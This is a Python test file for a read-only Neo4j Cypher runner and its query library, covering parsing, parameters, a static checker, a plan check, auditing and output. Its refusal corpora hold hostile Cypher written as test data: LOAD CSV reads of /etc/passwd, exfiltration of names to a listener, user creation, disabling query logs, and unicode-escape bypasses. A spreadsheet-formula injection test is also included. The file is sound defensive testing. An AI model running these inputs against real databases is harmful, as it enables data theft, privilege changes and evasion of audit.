"""The liaison Cypher library and its read-only runner.

Unit tests (no server) cover the header parser, parameter validation, the static checker,
the plan check, output formats and the CLI's usage errors.  Tests marked ``neo4j`` run
against the real Neo4j with ``fixtures/demo`` loaded: every library query answers what the
demo's story (``fixtures/demo/story.json``) says, a corpus of write, schema, administration
and procedure attempts is refused with the graph unchanged, each server-side layer refuses
on its own, reads are allowed, the row limit and the timeout are enforced, and every run is
audited.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import logging
import re
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from graphguard import audit as audit_log
from graphguard.cli.base import GraphguardGroup
from graphguard.cli.cypher import cypher
from graphguard.cypher import (
    PlanCheck,
    QueryFileError,
    QueryResult,
    QueryTimeout,
    check_plan_read_only,
    check_read_only_text,
    coerce_params,
    execute_read,
    explain_query,
    library_dir,
    library_reference,
    load_library,
    parse_literal,
    parse_query,
    read_plan,
    run_library_query,
    run_query,
)
from graphguard.cypher.results import format_result
from graphguard.errors import GraphguardError, RefusedError, UsageError

ROOT = Path(__file__).resolve().parents[1]


def _sha256(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def read_audit(path: Path) -> list[dict[str, Any]]:
    """The outcome lines of the audit log (each run also has a ``started`` line before it)."""
    return [e for e in audit_log.read_audit(path) if e["outcome"] != "started"]


STORY = json.loads((ROOT / "fixtures" / "demo" / "story.json").read_text(encoding="utf-8"))
N1, N2, DECOYS, PLACEMENT = STORY["network_1"], STORY["network_2"], STORY["decoys"], (
    STORY["placement"]
)


# ------------------------------------------------------------------------------ helpers


@click.group(cls=GraphguardGroup)
def _root() -> None:
    """The `graphguard` error handling around the cypher group, as main gives it."""


_root.add_command(cypher)


def cli(*args: str, input: str | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(_root, ["cypher", *args], input=input)
    return result.exit_code, result.stdout, result.stderr


SAMPLE = """\
// name: sample
// question: Which adults are near this
//   young person?
// param: young_person_id string (required) — the young person's id
// param: max_steps integer 1..4 = 2 — how far to look
// param: since date = null — only recent links
// param: types list<string> = ['ASSOCIATES_WITH', 'CONTACTED'] — link types
// param: ratio float = 0.5 — a share
// param: strict boolean = false — only strict matches
// returns: adult_id, steps
// note: a note
// :param young_person_id => 'YP001'
// :param since => date('2026-01-01')
MATCH (y:YoungPerson {id: $young_person_id})-[r*1..4]-(a:Adult)
WHERE size(r) <= $max_steps AND ($since IS NULL OR true) AND $ratio > 0 AND $strict = $strict
  AND all(x IN r WHERE type(x) IN $types)
RETURN a.id AS adult_id, size(r) AS steps;
"""


def sample_spec() -> Any:
    return parse_query(SAMPLE, Path("sample.cypher"))


# ============================================================================ the library


def test_library_has_at_least_twelve_documented_queries() -> None:
    library = load_library()
    assert len(library) >= 12
    for name, spec in library.items():
        assert spec.path is not None and spec.path.stem == name
        assert spec.question.endswith("?"), name
        assert spec.returns, name
        for param in spec.params:
            assert param.description, (name, param.name)
        # every required parameter has a :param example, so the file runs as documented
        coerce_params(spec, spec.examples)


def test_every_query_appears_in_the_docs() -> None:
    docs = (ROOT / "docs" / "cypher.md").read_text(encoding="utf-8")
    library = load_library()
    for name in library:
        assert f"### `{name}`" in docs, f"{name} is missing from docs/cypher.md"
    reference = docs.split("<!-- library:start -->\n", 1)[1].split("<!-- library:end -->", 1)[0]
    assert reference == library_reference(library), (
        "docs/cypher.md is out of date: regenerate its reference with "
        "graphguard.cypher.library_reference(load_library())"
    )
    for command in ("list", "show", "run"):
        assert f"graphguard cypher {command}" in docs
    for setting in ("GRAPHGUARD_CYPHER_TIMEOUT", "GRAPHGUARD_CYPHER_ROW_LIMIT",
                    "GRAPHGUARD_AUDIT_LOG", "NEO4J_URI"):
        assert setting in docs


def test_library_queries_return_ids_not_young_peoples_names() -> None:
    for name, spec in load_library().items():
        if "name" in spec.returns:
            assert "adults only" in " ".join(spec.notes), name
        assert "young_person.name" not in spec.text, name


def test_library_dir_is_cypher_queries() -> None:
    assert library_dir() == ROOT / "cypher" / "queries"


def test_parse_query_reads_the_header() -> None:
    spec = sample_spec()
    assert spec.name == "sample"
    assert spec.question == "Which adults are near this young person?"
    assert [p.name for p in spec.params] == [
        "young_person_id", "max_steps", "since", "types", "ratio", "strict",
    ]
    young, steps, since, types, ratio, strict = spec.params
    assert (young.type, young.required, young.default) == ("string", True, None)
    assert (steps.type, steps.required, steps.default) == ("integer", False, 2)
    assert (steps.minimum, steps.maximum, steps.description) == (1, 4, "how far to look")
    assert (since.type, since.required, since.default) == ("date", False, None)
    assert types.default == ["ASSOCIATES_WITH", "CONTACTED"]
    assert (ratio.default, strict.default) == (0.5, False)
    assert spec.returns == ["adult_id", "steps"]
    assert spec.notes == ["a note"]
    assert spec.examples == {"young_person_id": "YP001", "since": dt.date(2026, 1, 1)}
    assert spec.text.startswith("MATCH (y:YoungPerson")
    assert spec.param_lines() == [
        ":param young_person_id => 'YP001'",
        ":param since => date('2026-01-01')",
    ]
    assert steps.describe() == "max_steps integer 1..4 = 2 — how far to look"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda s: s.replace("// name: sample\n", ""), "exactly one '// name:'"),
        (lambda s: s.replace("// returns: adult_id, steps\n", ""), "exactly one '// returns:'"),
        (lambda s: s.replace("name: sample", "name: other"), "must match the file name"),
        (lambda s: s.replace("name: sample", "name: Sample"), "lower_case"),
        (lambda s: s.replace("// note: a note", "// colour: red"), "not a header line"),
        (lambda s: s.replace("max_steps integer", "max_steps number"), "unknown type"),
        (lambda s: s.replace("string (required)", "string"), "either (required) or"),
        (lambda s: s.replace("(required)", "(required) = 'x'"), "either (required) or"),
        (lambda s: s.replace("since date = null", "since date 1..2 = null"), "range"),
        (lambda s: s.replace("integer 1..4 = 2", "integer 1..4 = 7"), "above the largest"),
        (lambda s: s.replace("= 0.5", "= 'half'"), "must be a number"),
        (lambda s: s.replace("$ratio > 0", "$ratio > $other"), "$other is used"),
        (lambda s: s.replace(" AND $ratio > 0", ""), "'ratio' is declared but"),
        (lambda s: s.replace("// :param young_person_id => 'YP001'\n", ""), "needs a ':param'"),
        (lambda s: s.replace("=> 'YP001'", "=> YP001"), ":param young_person_id"),
        (lambda s: s.replace("// :param since", "// :param until"), "not a declared"),
        (lambda s: s.replace("RETURN a.id", "SET a.x = 1 RETURN a.id"), "not read-only"),
        (lambda s: s.split("MATCH")[0], "no query after the header"),
    ],
)
def test_parse_query_rejects_a_broken_header(
    change: Callable[[str], str], message: str
) -> None:
    with pytest.raises(QueryFileError, match=re.escape(message)) as raised:
        parse_query(change(SAMPLE), Path("sample.cypher"))
    assert str(raised.value).startswith("sample.cypher")


def test_load_library_reports_the_broken_file(tmp_path: Path) -> None:
    (tmp_path / "sample.cypher").write_text(SAMPLE, encoding="utf-8")
    (tmp_path / "broken.cypher").write_text("// name: broken\nMATCH (n) RETURN n", "utf-8")
    with pytest.raises(QueryFileError, match=r"broken\.cypher"):
        load_library(tmp_path)
    (tmp_path / "broken.cypher").unlink()
    assert list(load_library(tmp_path)) == ["sample"]
    with pytest.raises(UsageError, match="does not exist"):
        load_library(tmp_path / "nowhere")


@pytest.mark.parametrize(
    ("literal", "value"),
    [
        ("'AD017'", "AD017"),
        ('"it\\"s"', 'it"s'),
        ("'it\\'s'", "it's"),
        ("3", 3),
        ("-2", -2),
        ("2.5", 2.5),
        ("true", True),
        ("FALSE", False),
        ("null", None),
        ("date('2026-06-01')", dt.date(2026, 6, 1)),
        ("['1', '2']", ["1", "2"]),
        ("[]", []),
    ],
)
def test_parse_literal(literal: str, value: Any) -> None:
    assert parse_literal(literal) == value


@pytest.mark.parametrize("literal", ["AD017", "'a' 'b'", "['a'", "date('1 June')", "'open"])
def test_parse_literal_refuses_what_is_not_a_literal(literal: str) -> None:
    with pytest.raises(ValueError):
        parse_literal(literal)


# ============================================================================= parameters


def test_coerce_params_converts_strings_and_fills_defaults() -> None:
    values = coerce_params(
        sample_spec(),
        {"young_person_id": "YP007", "max_steps": "3", "since": "2026-02-03",
         "types": "FAMILY_OF, SUPPORTS", "ratio": "0.25", "strict": "yes"},
    )
    assert values == {
        "young_person_id": "YP007",
        "max_steps": 3,
        "since": dt.date(2026, 2, 3),
        "types": ["FAMILY_OF", "SUPPORTS"],
        "ratio": 0.25,
        "strict": True,
    }
    defaults = coerce_params(sample_spec(), {"young_person_id": "YP007", "since": ""})
    assert defaults == {
        "young_person_id": "YP007",
        "max_steps": 2,
        "since": None,
        "types": ["ASSOCIATES_WITH", "CONTACTED"],
        "ratio": 0.5,
        "strict": False,
    }


def test_coerce_params_takes_python_values() -> None:
    values = coerce_params(
        sample_spec(),
        {"young_person_id": "YP007", "max_steps": 4, "since": dt.date(2026, 1, 1),
         "types": ("FAMILY_OF",), "ratio": 1, "strict": False},
    )
    assert values["max_steps"] == 4 and values["types"] == ["FAMILY_OF"]
    assert values["ratio"] == 1.0 and isinstance(values["ratio"], float)


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ({}, "missing parameter 'young_person_id' (string)"),
        ({"young_person_id": "  "}, "missing parameter 'young_person_id'"),
        ({"young_person_id": "YP1", "colour": "red"}, "unknown parameter 'colour'"),
        ({"young_person_id": 7}, "'young_person_id' of sample must be a string"),
        ({"young_person_id": "YP1", "max_steps": "two"}, "'max_steps' of sample must be a whole"),
        ({"young_person_id": "YP1", "max_steps": "2.5"}, "'max_steps'"),
        ({"young_person_id": "YP1", "max_steps": True}, "'max_steps'"),
        ({"young_person_id": "YP1", "max_steps": "0"}, "below the smallest allowed, 1"),
        ({"young_person_id": "YP1", "max_steps": 5}, "above the largest allowed, 4"),
        ({"young_person_id": "YP1", "since": "01/02/2026"}, "'since' of sample must be a date"),
        ({"young_person_id": "YP1", "since": "2026-02-30"}, "'since'"),
        ({"young_person_id": "YP1", "since": dt.datetime(2026, 1, 1)}, "'since'"),
        ({"young_person_id": "YP1", "ratio": "lots"}, "'ratio' of sample must be a number"),
        ({"young_person_id": "YP1", "ratio": "nan"}, "'ratio'"),
        ({"young_person_id": "YP1", "strict": "maybe"}, "'strict' of sample must be true"),
        ({"young_person_id": "YP1", "types": [1, 2]}, "'types' of sample must be a comma"),
    ],
)
def test_coerce_params_names_the_bad_parameter(raw: dict[str, Any], message: str) -> None:
    with pytest.raises(UsageError, match=re.escape(message)):
        coerce_params(sample_spec(), raw)


# ======================================================================== static checking

# Writes, schema changes, administration, procedures, several statements: all refused.
# The same corpus goes to the real server below, to prove nothing changes.
REFUSED: list[str] = [
    "CREATE (n:Tmp {x: 1})",
    "create (n:Tmp)",
    "MATCH (n) SET n.x = 1",
    "MATCH (n) set n.flag = true RETURN n",
    "MERGE (n:Tmp {id: 'x'})",
    "MATCH (n) DETACH DELETE n",
    "MATCH ()-[r]->() DELETE r",
    "MATCH (n:Person) REMOVE n:Person",
    "MATCH (n) REMOVE n.name",
    "INSERT (n:Tmp)",
    "MATCH (n) // only reading\nCREATE (m:Tmp)",
    "MATCH (n) // a carriage return ends a comment too\rCREATE (m:Tmp)",
    "MATCH (n) /* read */ SET n.x = 1",
    "MATCH (n) RETURN n; CREATE (m:Tmp)",
    "// CREATE\nRETURN 1; RETURN 2",
    "RETURN ';' AS semicolon; MATCH (n) DETACH DELETE n",
    "RETURN 'it\\'s' AS text CREATE (n:Tmp)",
    "MATCH (`odd;name`) CREATE (n:Tmp)",
    "CALL { CREATE (n:Tmp) RETURN n } RETURN n",
    "MATCH (n) CALL (n) { SET n.x = 1 } RETURN count(*)",
    "MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 10 ROWS",
    "UNWIND range(1, 3) AS i CALL (i) { RETURN i AS j } IN TRANSACTIONS RETURN j",
    "FOREACH (x IN [1, 2] | CREATE (:Tmp {x: x}))",
    "MATCH (n) WITH collect(n) AS ns FOREACH (m IN ns | SET m.x = 1)",
    "MATCH (n) RETURN n.id AS id UNION MATCH (m) DETACH DELETE m RETURN 'x' AS id",
    "ReTuRn 1 AS x UnIoN cReAtE (n:Tmp) RETURN 1 AS x",
    "PROFILE CREATE (n:Tmp)",
    "EXPLAIN MATCH (n) DELETE n",
    "CYPHER runtime=slotted CREATE (n:Tmp)",
    "CYPHER 5 MATCH (n) SET n.x = 1",
    "OPTIONAL MATCH (n:Adult) CREATE (n)-[:KNOWS]->(:Tmp)",
    "MATCH (n:Adult) WITH n LIMIT 1 MERGE (n)-[:KNOWS]->(:Tmp)",
    "CALL apoc.create.node(['Tmp'], {})",
    "CALL apoc.cypher.runWrite('CREATE (n:Tmp)', {})",
    "RETURN apoc.cypher.runFirstColumnSingle('MATCH (n) RETURN count(n)', {}) AS n",
    "CALL dbms.security.createUser('mallory', 'secret-password', false)",
    "CALL db.createLabel('Tmp')",
    "CALL `db`.`createProperty`('tmp')",
    "MATCH (n) WITH n LIMIT 1 CALL db.createLabel('Tmp') RETURN n",
    "CALL db.clearQueryCaches()",
    "CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')",
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "load csv with headers from 'https://example.org/x.csv' AS row CREATE (:Tmp)",
    "USE system SHOW USERS",
    "USE neo4j MATCH (n) RETURN n",
    "CREATE INDEX tmp_index FOR (n:Tmp) ON (n.x)",
    "CREATE CONSTRAINT tmp_unique FOR (n:Tmp) REQUIRE n.id IS UNIQUE",
    "DROP CONSTRAINT entity_id IF EXISTS",
    "DROP INDEX tmp_index IF EXISTS",
    "CREATE USER mallory SET PASSWORD 'secret-password'",
    "ALTER USER neo4j SET PASSWORD 'changed-password'",
    "GRANT ROLE admin TO mallory",
    "DENY READ {*} ON GRAPH * TO PUBLIC",
    "REVOKE ROLE admin FROM neo4j",
    "CREATE DATABASE other",
    "STOP DATABASE neo4j",
    "START DATABASE neo4j",
    "SHOW USERS",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "SHOW TRANSACTIONS YIELD transactionId TERMINATE TRANSACTIONS transactionId",
    # A keyword as a variable, so that a reader takes the next clause for an alias.
    "WITH 1 AS AS CREATE (n:Tmp)",
    "UNWIND [1] AS AS MERGE (n:Tmp {id: 'x'})",
    "WITH 1 AS AS LOAD CSV FROM 'http://127.0.0.1:9/x.csv' AS l RETURN l",
    "MATCH (n) WHERE n.AS CREATE (m:Tmp)",
    "MATCH (n) WHERE n:AS CREATE (m:Tmp)",
]

ALLOWED: list[str] = [
    "MATCH (n:Adult) RETURN n.id AS id",
    "match (n) return count(n) as nodes",
    "MATCH (a:Adult)-[r]-(y:YoungPerson) RETURN a.id, count(DISTINCT y) AS n ORDER BY n DESC",
    "MATCH p = shortestPath((a:Entity {id: 'A'})-[*..6]-(b:Entity {id: 'B'})) RETURN p",
    "CALL db.labels()",
    "CALL db.labels() YIELD label RETURN label ORDER BY label",
    "CALL db.relationshipTypes()",
    "CALL db.propertyKeys()",
    "CALL db.schema.visualization()",
    "CALL dbms.components() YIELD name, versions RETURN name, versions",
    "MATCH (n) WHERE n.notes CONTAINS 'CREATE (x); DELETE' RETURN n.id",
    "MATCH (n) /* SET n.x = 1; */ RETURN n.id // DETACH DELETE n",
    "MATCH (n:`CREATE`) RETURN n",
    "MATCH (n) RETURN n.set AS set, n {.create, .delete} AS projection",
    "RETURN {create: 1, merge: 2} AS map",
    "WITH date('2026-01-01') AS start RETURN duration.between(start, date()).days AS days",
    "UNWIND $ids AS id MATCH (n:Entity {id: id}) RETURN n",
    "CALL () { MATCH (n:Adult) RETURN n } RETURN count(n) AS adults",
    "MATCH (n:Adult) RETURN n.id AS id UNION MATCH (n:Vehicle) RETURN n.id AS id",
    "CYPHER runtime=slotted MATCH (n) RETURN count(n)",
    "OPTIONAL MATCH (n:Nothing) RETURN n",
    "MATCH (n) RETURN n LIMIT 5;",
    "RETURN 1 AS one; // done",
    "RETURN 'C:\\\\temp\\\\x' AS path, 'it\\'s' AS text // backslashes: C:\\temp",
    "RETURN '\\U0001F600' AS not_an_escape_in_neo4j_5",
]


# Neo4j decodes \uXXXX anywhere in the text before it reads the query: in keywords, in
# names, in strings (\u0027 closes a '…' string), in back-quoted names (\u0060 closes one)
# and in comments (\u000a or \u000d ends a // comment, \u002a/ ends a /* comment).  Each of
# these would hide what the server sees from a check that reads the text as written.
ESCAPE_BYPASSES: list[str] = [
    "WITH 1 AS x \\u004cOAD CSV FROM 'file:///secret.csv' AS l RETURN l",
    "MATCH (p:YoungPerson) \\u004cOAD CSV FROM 'http://127.0.0.1:8765/?n=' + p.name AS l RETURN l",
    "\\u0043REATE (n:Tmp)",
    "MATCH (n) \\u0053ET n.x = 1",
    "CALL db\\u002ecreateLabel('Tmp')",
    "CALL db\\u002einfo()",
    "RETURN \\u0061poc.text.join(['a'], ',') AS x",
    "\\u0055SE system SHOW USERS",
    "RETURN 1 AS one\\u003b CREATE (n:Tmp)",
    "WITH '\\u0027 AS x LOAD CSV FROM 'file:///secret.csv' AS l RETURN l //' AS y RETURN y",
    "MATCH (`a\\u0060) CREATE (m:Tmp) //`) RETURN 1",
    "MATCH (n) // only reading\\u000aCREATE (m:Tmp)",
    "MATCH (n) // only reading\\u000dCREATE (m:Tmp)",
    "MATCH (n) /* \\u002a/ CREATE (m:Tmp) // */",
]

_ESCAPABLE = re.compile(
    r"\b(CREATE|MERGE|SET|DELETE|DETACH|REMOVE|FOREACH|INSERT|LOAD|USE|DROP|ALTER|GRANT|DENY"
    r"|REVOKE|SHOW|TERMINATE|START|STOP|CALL|PROFILE|EXPLAIN|TRANSACTIONS|UNION|RETURN)\b",
    re.IGNORECASE,
)


def escaped(text: str) -> str:
    """``text`` as Neo4j reads it, with \\uXXXX escapes hiding what a naive check looks for.

    The first letter of each keyword a check looks for, every '.' (procedure and function
    names) and every ';' become escapes.
    """
    text = _ESCAPABLE.sub(lambda m: f"\\u{ord(m.group()[0]):04x}{m.group()[1:]}", text)
    return text.replace(".", "\\u002e").replace(";", "\\u003b")


# Every attempt of the refusal corpus again: with escapes; after a // comment that a
# carriage return ends; and after one that an escaped carriage return ends.
ESCAPED_REFUSED: list[str] = [escaped(text) for text in REFUSED]
CR_COMMENT_REFUSED: list[str] = [f"// only reading\r{text}" for text in REFUSED]
ESCAPED_CR_COMMENT_REFUSED: list[str] = [
    f"// only reading\\u000d{escaped(text)}" for text in REFUSED
]
EVASIONS: list[str] = [
    *ESCAPE_BYPASSES, *ESCAPED_REFUSED, *CR_COMMENT_REFUSED, *ESCAPED_CR_COMMENT_REFUSED,
]


@pytest.mark.parametrize("text", REFUSED)
def test_static_check_refuses(text: str) -> None:
    with pytest.raises(RefusedError) as raised:
        check_read_only_text(text)
    assert "\n" not in str(raised.value)


@pytest.mark.parametrize("text", ALLOWED)
def test_static_check_allows_reads(text: str) -> None:
    statement = check_read_only_text(text)
    assert not statement.endswith(";")
    assert statement == statement.strip()


def test_static_check_reasons_say_what_was_refused() -> None:
    cases = {
        "RETURN 1; RETURN 2": "2 statements",
        "MATCH (n) DETACH DELETE n": "DETACH is a write clause",
        "LOAD CSV FROM 'x' AS r RETURN r": "LOAD CSV is not allowed",
        "USE system SHOW USERS": "USE is not allowed",
        "CALL db.createLabel('X')": "procedure db.createLabel is not on the read-only allowlist",
        "MATCH (n) CALL (n) { RETURN n AS m } IN TRANSACTIONS RETURN m": "IN TRANSACTIONS",
        "SHOW USERS": "SHOW is",
        "PROFILE MATCH (n) RETURN n": "PROFILE is not available",
        "RETURN apoc.text.join(['a'], ',') AS x": "function apoc.text.join is not one",
        "\\u004cOAD CSV FROM 'x' AS r RETURN r": "the query uses the escape \\u004c",
        "RETURN 1 AS `a\\b`": "a backslash outside a string literal (character 13)",
    }
    for text, reason in cases.items():
        with pytest.raises(RefusedError, match=re.escape(reason)):
            check_read_only_text(text)


def test_keyword_as_variable_tricks_are_read_as_neo4j_reads_them() -> None:
    # The alias AS is refused itself; the clause after it is what the server runs.
    with pytest.raises(RefusedError, match="a variable named AS: a keyword as a name"):
        check_read_only_text("WITH 1 AS AS CREATE (n:Tmp)")
    # After a property or a label called AS, the next word is a keyword again.
    with pytest.raises(RefusedError, match="CREATE is a write clause"):
        check_read_only_text("MATCH (n) WHERE n.AS CREATE (m:Tmp)")
    with pytest.raises(RefusedError, match="LOAD CSV is not allowed"):
        check_read_only_text("MATCH (n) WHERE n:AS LOAD CSV FROM 'http://x/' AS l RETURN l")
    # Aliases, properties and labels that merely look like keywords still read.
    for text in (
        "RETURN 1 AS `AS`",
        "MATCH (n) WHERE n.AS RETURN n.AS AS value",
        "MATCH (n:AS) RETURN n AS create",
        "RETURN 1 AS set",
    ):
        assert check_read_only_text(text) == text
    # A long run of AS words is judged without recursion.
    with pytest.raises(RefusedError):
        check_read_only_text("WITH 1 " + "AS " * 5000 + "CREATE (n)")


def test_escaped_corpus_escapes_every_attempt() -> None:
    assert len(ESCAPED_REFUSED) == len(REFUSED)
    for plain, hidden in zip(REFUSED, ESCAPED_REFUSED, strict=True):
        assert hidden != plain and "\\u" in hidden
    assert escaped("CALL db.createLabel('X')") == "\\u0043ALL db\\u002ecreateLabel('X')"


@pytest.mark.parametrize("text", [*ESCAPE_BYPASSES, *ESCAPED_REFUSED, *ESCAPED_CR_COMMENT_REFUSED])
def test_static_check_refuses_any_unicode_escape(text: str) -> None:
    with pytest.raises(RefusedError, match=r"the query uses the escape \\u[0-9a-f]{4} \(character"):
        check_read_only_text(text)


@pytest.mark.parametrize("text", REFUSED)
def test_a_carriage_return_ends_a_comment_for_the_check_too(text: str) -> None:
    with pytest.raises(RefusedError) as plain:
        check_read_only_text(text)
    with pytest.raises(RefusedError) as after_comment:
        check_read_only_text(f"// only reading\r{text}")
    assert str(after_comment.value) == str(plain.value)


@pytest.mark.parametrize(
    "text",
    [
        "RETURN 1 AS \\u0061",
        "RETURN 'it\\u0027s' AS text",  # even inside a string: \u0027 closes it
        "RETURN 1 AS x // caf\\u00e9",  # even in a comment
        "RETURN 'a\\\\u0061' AS text",  # not decoded by Neo4j, refused all the same
        "RETURN 1 AS x \\u",
    ],
)
def test_unicode_escapes_are_refused_even_in_strings_and_comments(text: str) -> None:
    with pytest.raises(RefusedError, match="Neo4j decodes") as raised:
        check_read_only_text(text)
    assert "\n" not in str(raised.value)


@pytest.mark.parametrize(
    "text",
    [
        "RETURN 1 AS `a\\b`",
        "RETURN $`a\\b` AS x",
        "MATCH (n) RETURN n.x \\ 2 AS y",
        "RETURN 1 AS x \\U0043REATE (n:Tmp)",
        "MATCH (n)\\\nCREATE (m:Tmp)",
    ],
)
def test_a_backslash_outside_strings_is_refused(text: str) -> None:
    with pytest.raises(RefusedError, match="a backslash outside a string literal"):
        check_read_only_text(text)


def test_static_check_sends_the_statement_alone() -> None:
    assert check_read_only_text("// header\nMATCH (n)\nRETURN n; // end\n") == (
        "MATCH (n)\nRETURN n"
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "empty"),
        ("// only a comment", "empty"),
        ("RETURN 'open", "unterminated string"),
        ("RETURN 1 /* open", "unterminated /*"),
        ("MATCH (`open) RETURN 1", "unterminated `back-quoted`"),
        ("CYPHER runtime=slotted", "no statement"),
    ],
)
def test_static_check_usage_errors(text: str, message: str) -> None:
    with pytest.raises(UsageError, match=re.escape(message)):
        check_read_only_text(text)


def test_plan_check_accepts_only_reads() -> None:
    read = PlanCheck("r", frozenset({"ProduceResults", "AllNodesScan"}), frozenset())
    check_plan_read_only(read)
    components = PlanCheck(
        "s", frozenset({"ProduceResults", "ProcedureCall"}), frozenset({"dbms.components"})
    )
    check_plan_read_only(components)
    for plan, word in [
        (PlanCheck("rw", frozenset({"Create"}), frozenset()), "reads and writes"),
        (PlanCheck("w", frozenset({"SetProperty"}), frozenset()), "writes"),
        (PlanCheck("s", frozenset({"CreateIndex"}), frozenset()), "schema"),
        (PlanCheck("s", frozenset({"AdministrationCommand"}), frozenset()), "schema"),
        (
            PlanCheck("s", frozenset({"ProcedureCall", "CreateIndex"}),
                      frozenset({"dbms.components"})),
            "schema",
        ),
        (PlanCheck("s", frozenset({"ProcedureCall"}), frozenset({"dbms.setconfigvalue"})),
         "schema"),
    ]:
        with pytest.raises(RefusedError, match=word):
            check_plan_read_only(plan)


def _operator(kind: str, details: str = "", *children: dict[str, Any]) -> dict[str, Any]:
    return {"operatorType": f"{kind}@neo4j", "args": {"Details": details, "Id": 0},
            "children": list(children)}


def test_plan_check_refuses_reads_that_leave_the_graph() -> None:
    load_csv = read_plan("r", _operator("ProduceResults", "l", _operator("LoadCSV", "l")))
    assert load_csv.operators == {"ProduceResults", "LoadCSV"}
    with pytest.raises(RefusedError, match=r"shows a LOAD CSV \(LoadCSV operator\)"):
        check_plan_read_only(load_csv)

    info = read_plan("r", _operator("ProcedureCall", "db.info() :: (id :: STRING)"))
    assert info.procedures == {"db.info"} and info.functions == frozenset()
    with pytest.raises(RefusedError, match=r"procedure db\.info, which is not on the read-only"):
        check_plan_read_only(info)
    quoted = read_plan("r", _operator("ProcedureCall", "`db`.`labels`() :: (label :: STRING)"))
    assert quoted.procedures == {"db.labels"}
    check_plan_read_only(quoted)
    unnamed = read_plan("r", {"operatorType": "ProcedureCall@neo4j", "args": {}})
    with pytest.raises(RefusedError, match="procedure"):
        check_plan_read_only(unnamed)

    plugin = read_plan(
        "r",
        _operator("ProduceResults", "n", _operator(
            "Projection", "apoc.cypher.runFirstColumnSingle($autostring_0, {}) AS n")),
    )
    assert plugin.functions == {"apoc.cypher.runFirstColumnSingle"}
    with pytest.raises(RefusedError, match=r"function apoc\.cypher\.runFirstColumnSingle, which"):
        check_plan_read_only(plugin)
    in_arguments = read_plan("r", _operator("ProcedureCall", "db.labels(apoc.x.y()) :: ()"))
    with pytest.raises(RefusedError, match=r"function apoc\.x\.y\b"):
        check_plan_read_only(in_arguments)

    builtins = read_plan(
        "r",
        _operator("Filter", "n.x = vector.similarity.cosine($autolist_0, $autolist_1) AND "
                            "date.truncate('month', n.seen) = n.`odd.name` AND 'apoc.x(' <> n.y"),
    )
    assert builtins.functions == {"vector.similarity.cosine", "date.truncate"}
    check_plan_read_only(builtins)
    # Details that do not tokenise are read crudely: that can only find more.
    crude = read_plan("r", _operator("Projection", "apoc.util.sleep(1) AS `open"))
    assert crude.functions == {"apoc.util.sleep"}


def test_a_static_refusal_is_audited_without_a_server(tmp_path: Path) -> None:
    audit = tmp_path / "audit.jsonl"
    with pytest.raises(RefusedError):
        run_query(None, "MATCH (n) DETACH DELETE n", {"x": dt.date(2026, 1, 2)}, timeout=5,
                  row_limit=10, audit_path=audit)
    with pytest.raises(UsageError):
        run_query(None, "MATCH (n) RETURN n", timeout=0, row_limit=10, audit_path=audit)
    spec = load_library()["found_after_missing"]
    with pytest.raises(UsageError):
        run_library_query(None, spec, {"since": "last week"}, timeout=5, row_limit=10,
                          audit_path=audit)
    first, second, third = read_audit(audit)
    assert first["outcome"] == "refused" and first["user"] == audit_log.acting_user()
    assert first["query"] is None and first["params"] == {"x": "2026-01-02"}
    assert first["reason"] == "DETACH is a write clause: liaison Cypher is read-only"
    assert first["text"] == "MATCH (n) DETACH DELETE n" and len(first["sha256"]) == 64
    assert first.get("rows") is None and isinstance(first["duration_ms"], int)
    assert dt.datetime.fromisoformat(first["time"]).tzinfo is not None
    assert second["outcome"] == "error" and "timeout" in second["reason"]
    assert third["outcome"] == "error" and third["query"] == "found_after_missing"
    assert "'since'" in third["reason"]
    assert (audit.stat().st_mode & 0o777) == 0o600


# ================================================================================= output


def _result(truncated: bool = False) -> QueryResult:
    return QueryResult(
        columns=["id", "ids", "node", "note"],
        rows=[
            {"id": "AD1", "ids": ["YP1", "YP2"], "node": {"id": "AD1", "labels": ["Adult"]},
             "note": "two\nlines"},
            {"id": "AD2", "ids": [], "node": None, "note": None},
        ],
        truncated=truncated,
        row_limit=2,
        elapsed=0.1,
    )


def test_format_result_csv_json_table() -> None:
    rows = list(csv.reader(io.StringIO(format_result(_result(), "csv"))))
    assert rows[0] == ["id", "ids", "node", "note"]
    assert rows[1] == ["AD1", "YP1; YP2", '{"id": "AD1", "labels": ["Adult"]}', "two\nlines"]
    assert rows[2] == ["AD2", "", "", ""]
    assert json.loads(format_result(_result(), "json")) == _result().rows
    table = format_result(_result(truncated=True), "table").splitlines()
    assert table[0].split() == ["id", "ids", "node", "note"]
    assert table[2].startswith("AD1  YP1, YP2") and "two lines" in table[2]
    assert table[-1].startswith("(2 rows (cut at the row limit)")
    with pytest.raises(UsageError):
        format_result(_result(), "xml")


def test_csv_and_json_cells_are_safe_in_a_spreadsheet() -> None:
    result = QueryResult(
        columns=["=cmd", "name", "n", "ids", "node", "tab", "flag"],
        rows=[
            {"=cmd": "@SUM(A1)", "name": '=HYPERLINK("http://x","y")', "n": -3,
             "ids": ["+1", "x"], "node": {"properties": {"name": "-2+3"}}, "tab": "\tx",
             "flag": False},
            {"=cmd": "plain", "name": "a\r=b", "n": -2.5, "ids": [-1, 2], "node": None,
             "tab": "\r=1", "flag": None},
        ],
        truncated=False,
        row_limit=10,
        elapsed=0.1,
    )
    text = format_result(result, "csv")
    # A carriage return inside a cell becomes a newline, quoted, so it cannot start a row
    # (and a formula); rows end in CRLF.
    assert '"a\n=b"' in text and text.count("\r\n") == 3
    header, first, second = csv.reader(io.StringIO(text, newline=""))
    assert header == ["'=cmd", "name", "n", "ids", "node", "tab", "flag"]
    assert first == ["'@SUM(A1)", "'=HYPERLINK(\"http://x\",\"y\")", "-3", "'+1; x",
                     '{"properties": {"name": "-2+3"}}', "'\tx", "false"]
    assert second == ["plain", "a\n=b", "-2.5", "'-1; 2", "", "'\n=1", ""]
    assert json.loads(format_result(result, "json")) == [
